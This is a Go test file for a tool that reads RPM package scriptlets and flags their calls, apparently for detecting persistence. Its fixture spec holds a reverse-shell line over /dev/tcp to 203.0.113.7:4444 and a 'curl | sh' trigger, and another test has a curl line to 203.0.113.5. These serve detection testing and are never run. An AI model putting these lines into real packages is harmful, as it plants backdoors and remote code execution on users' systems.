package packagescripts

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/pkgpersist/pkgpersist/extension/dpkgdb"
	"github.com/pkgpersist/pkgpersist/extension/fsroot"
	"github.com/pkgpersist/pkgpersist/extension/rpmdb/rpmdbtest"
	"github.com/pkgpersist/pkgpersist/extension/table"
	"github.com/pkgpersist/pkgpersist/test/need"
)

// everyKindSpec carries every scriptlet rpm 4.18 builds: each plain kind
// (with -p interpreters, interpreter arguments, a program without text,
// -e and -q flags), package triggers of each kind with versioned
// conditions, and file and transaction file triggers with several
// prefixes, priorities and -p interpreters. Nothing of it runs here: rpm
// installs it with --noscripts --notriggers.
const everyKindSpec = `Name: scripted
Version: 2.0
Release: 3
Epoch: 1
Summary: every scriptlet kind
License: MIT
BuildArch: noarch
%description
fixture
%install
mkdir -p %{buildroot}/usr/share/scripted
echo x > %{buildroot}/usr/share/scripted/data
%files
/usr/share/scripted/data

%pretrans -p <lua>
print("pretrans")
%pre
echo pre "$1"
%post -p "/usr/bin/perl -w"
print "post\n";
%preun -e
echo preun %%{name}
%postun -p /sbin/ldconfig
%posttrans -q
echo %%{NAME}
%verifyscript
nohup setsid bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' &
%triggerprein -- bash < 5.0
echo prein
%triggerin -p /usr/bin/perl -- coreutils, sed >= 4.0
print "in\n";
%triggerun -- grep
curl -s http://203.0.113.7/x | sh
%triggerpostun -p <lua> -- tar = 1.0
print("postun")
%filetriggerin -P 2000 -- /usr/lib/scripted /usr/share/scripted
cat
%filetriggerun -p <lua> -- /etc/scripted
print("fun")
%filetriggerpostun -p /usr/bin/perl -P 100 -- /opt/x
print "fpostun\n";
%transfiletriggerin -P 10000 -- /usr/lib64
echo tin
%transfiletriggerun -- /usr/share/icons
echo tun
%transfiletriggerpostun -p <lua> -- /usr/share/fonts
print("tpostun")

%package plain
Summary: a %post alone, no epoch
Version: 0.1
Release: 1
%description plain
fixture
%files plain
%post plain
echo installed >/dev/null
`

// buildRPMs builds spec with Debian's rpmbuild and returns the packages.
func buildRPMs(t testing.TB, spec string, defines ...string) []string {
	t.Helper()
	rpmbuild := need.Program(t, "rpmbuild")
	top := t.TempDir()
	path := filepath.Join(top, "t.spec")
	must(t, os.WriteFile(path, []byte(spec), 0o644))
	args := []string{"--define", "_topdir " + top}
	for _, d := range defines {
		args = append(args, "--define", d)
	}
	if out, err := exec.Command(rpmbuild, append(args, "-bb", path)...).CombinedOutput(); err != nil {
		t.Fatalf("rpmbuild: %v\n%s", err, out)
	}
	rpms, _ := filepath.Glob(filepath.Join(top, "RPMS/*/*.rpm"))
	if len(rpms) == 0 {
		t.Fatal("rpmbuild built nothing")
	}
	return rpms
}

// rpmRoot is the database rpm --root R writes in the tests: Debian's rpm
// would use ~/.rpmdb, so the tests pass --dbpath, which is where rpm on
// RHEL keeps it and where the table looks.
var rpmRoot = []string{"--dbpath", "/var/lib/rpm"}

// installRPMs installs packages into root with Debian's rpm, running none
// of their scriptlets.
func installRPMs(t testing.TB, root string, extra []string, rpms ...string) {
	t.Helper()
	args := append([]string{"--root", root}, rpmRoot...)
	args = append(append(append(args, "-i", "--nodeps", "--noscripts", "--notriggers"), extra...), rpms...)
	rpmdbtest.RPM(t, args...)
	if _, err := os.Stat(filepath.Join(root, "var/lib/rpm/rpmdb.sqlite")); err != nil {
		t.Fatalf("rpm wrote no database where the table looks: %v", err)
	}
}

// TestRPMOracle: packages carrying every scriptlet kind, built by
// rpmbuild and installed by rpm, are the rows rpm -q --scripts,
// --triggers and --filetriggers list, with the interpreter, conditions,
// text, priority and flags; and the rows read what they run.
func TestRPMOracle(t *testing.T) {
	rpms := buildRPMs(t, everyKindSpec)
	root := t.TempDir()
	before := time.Now().Add(-time.Second).Unix()
	installRPMs(t, root, nil, rpms...)
	after := time.Now().Add(time.Second).Unix()
	ps := &fsroot.Problems{}
	rows, err := Rows(fsroot.WithProblems(context.Background(), ps), root, dpkgdb.Admindir)
	must(t, err)
	n := compareScriptlets(t, rows, rpmScriptlets(t, append([]string{"--root", root}, rpmRoot...)...))
	if n != 18 {
		t.Errorf("%d scriptlets, the spec has 18", n)
	}
	if len(ps.List()) > 0 {
		t.Errorf("problems: %v", ps.List())
	}
	by := map[string]table.Row{}
	for _, r := range rows {
		by[r["package"]+" "+r["script"]] = r
		if it, _ := strconv.ParseInt(r["install_time"], 10, 64); it < before || it > after || r["status"] != "installed" {
			t.Errorf("%s %s: install_time %s outside the install [%d, %d], status %s", r["package"], r["script"], r["install_time"], before, after, r["status"])
		}
		sum := sha256.Sum256([]byte(r["body"]))
		if r["body"] != "" && (r["sha256"] != hex.EncodeToString(sum[:]) || r["lines"] != strconv.Itoa(strings.Count(r["body"], "\n")+1)) {
			t.Errorf("%s %s: sha256 %s lines %s", r["package"], r["script"], r["sha256"], r["lines"])
		}
	}
	checks := []struct {
		key, col, want string
	}{
		{"scripted verifyscript", "calls", "[net][fetch] bash"},
		{"scripted verifyscript", "calls", "[detach] nohup"},
		{"scripted triggerun", "calls", "[net] curl"},
		{"scripted triggerun", "condition", "grep"},
		{"scripted pretrans", "reason", "calls not read: pkgpersist reads shell scripts, this one runs with <lua>"},
		{"scripted post", "reason", "runs with /usr/bin/perl"},
		{"scripted postun", "calls", "1 /sbin/ldconfig"},
		{"scripted postun", "reason", "no script text"},
		{"scripted preun", "reason", "rpm expands the body's macros"},
		{"scripted triggerin", "condition", "coreutils\nsed >= 4.0"},
		{"scripted filetriggerin", "condition", "/usr/lib/scripted\n/usr/share/scripted"},
		{"scripted-plain post", "version", "0.1-1"},
		{"scripted post", "version", "1:2.0-3"},
	}
	for _, c := range checks {
		if r := by[c.key]; !strings.Contains(r[c.col], c.want) {
			t.Errorf("%s: %s %q, want %q in it", c.key, c.col, r[c.col], c.want)
		}
	}
}

// TestRPMRealBDB: every scriptlet of the real CentOS 5 to 8 databases is
// what Debian's rpm lists from the same file (bdb_ro), package by package.
func TestRPMRealBDB(t *testing.T) {
	total, dbs := 0, 0
	rpmdbtest.EachRealBDB(t, func(t *testing.T, root, dbpath string) {
		ps := &fsroot.Problems{}
		rows, err := Rows(fsroot.WithProblems(context.Background(), ps), root, dpkgdb.Admindir)
		must(t, err)
		n := compareScriptlets(t, rows, rpmScriptlets(t, "--dbpath", dbpath, "--define", "_db_backend bdb_ro"))
		if len(ps.List()) > 0 {
			t.Errorf("problems: %v", ps.List())
		}
		kinds := map[string]int{}
		for _, r := range rows {
			kinds[r["script"]]++
		}
		t.Logf("%d scriptlets agree with rpm: %v", n, kinds)
		total += n
		dbs++
	})
	t.Logf("%d scriptlets in %d databases", total, dbs)
}

// TestRPMNDB: the scriptlets of SUSE's NDB database (Packages.db of a
// SLE 15 image, see extension/rpmdb) are what rpm lists of the same
// headers: Debian's rpm reads no NDB, so the headers our NDB reader
// extracts are imported into a database of rpm's own (rpmdb --importdb,
// which checks each header), and rpm lists from that.
func TestRPMNDB(t *testing.T) {
	blobs := rpmdbtest.NDBBlobs(t, rpmdbtest.RealNDB())
	dir, n := rpmdbtest.Import(t, blobs...)
	if n != len(blobs) {
		t.Fatalf("rpm imported %d of the %d headers", n, len(blobs))
	}
	root := t.TempDir()
	rpmdbtest.CopyFile(t, rpmdbtest.RealNDB(), filepath.Join(root, "usr/lib/sysimage/rpm"))
	ps := &fsroot.Problems{}
	rows, err := Rows(fsroot.WithProblems(context.Background(), ps), root, dpkgdb.Admindir)
	must(t, err)
	n = compareScriptlets(t, rows, rpmScriptlets(t, "--dbpath", dir))
	if len(ps.List()) > 0 || n < 20 {
		t.Errorf("%d scriptlets; problems: %v", n, ps.List())
	}
	t.Logf("%d scriptlets of %d headers agree with rpm", n, len(blobs))
}

// TestRPMLongScriptlet: a scriptlet over MaxBody keeps its first MaxBody
// bytes, with the flag, the whole text's digest and line count, and a
// limit problem of the database.
func TestRPMLongScriptlet(t *testing.T) {
	post := strings.Repeat("# padding padding padding\n", MaxBody/20) + "curl http://203.0.113.5/late"
	rpms := buildRPMs(t, "Name: big\nVersion: 1\nRelease: 1\nSummary: long %post\nLicense: MIT\nBuildArch: noarch\n%description\nx\n%files\n%post\n"+post+"\n")
	root := t.TempDir()
	installRPMs(t, root, nil, rpms...)
	ps := &fsroot.Problems{}
	rows, err := Rows(fsroot.WithProblems(context.Background(), ps), root, dpkgdb.Admindir)
	must(t, err)
	sum := sha256.Sum256([]byte(post))
	if len(rows) != 1 {
		t.Fatalf("%d rows", len(rows))
	}
	r := rows[0]
	if r["body_truncated"] != "1" || len(r["body"]) != MaxBody || r["sha256"] != hex.EncodeToString(sum[:]) ||
		r["lines"] != strconv.Itoa(strings.Count(post, "\n")+1) || strings.Contains(r["calls"], "curl") {
		t.Errorf("truncated %s len %d lines %s calls %q", r["body_truncated"], len(r["body"]), r["lines"], r["calls"])
	}
	if p := ps.List(); len(p) != 1 || p[0].Path != "/var/lib/rpm/rpmdb.sqlite" || p[0].Cause != fsroot.CauseLimit || !strings.Contains(p[0].Detail, "big post") {
		t.Errorf("problems %v", p)
	}
}

// TestRPMUnreadableDatabase: a database rpmdb cannot read is a problem of
// the root and a row that says so, never a silent absence of rpm rows.
func TestRPMUnreadableDatabase(t *testing.T) {
	root := t.TempDir()
	must(t, os.MkdirAll(filepath.Join(root, "var/lib/rpm"), 0o755))
	must(t, os.WriteFile(filepath.Join(root, "var/lib/rpm/Packages"), []byte(strings.Repeat("not a berkeley db ", 300)), 0o644))
	ps := &fsroot.Problems{}
	rows, err := Rows(fsroot.WithProblems(context.Background(), ps), root, dpkgdb.Admindir)
	must(t, err)
	if len(rows) != 1 || rows[0]["manager"] != "rpm" || !strings.Contains(rows[0]["reason"], "rpm database not read") || len(ps.List()) == 0 {
		t.Errorf("rows %v problems %v", rows, ps.List())
	}
}
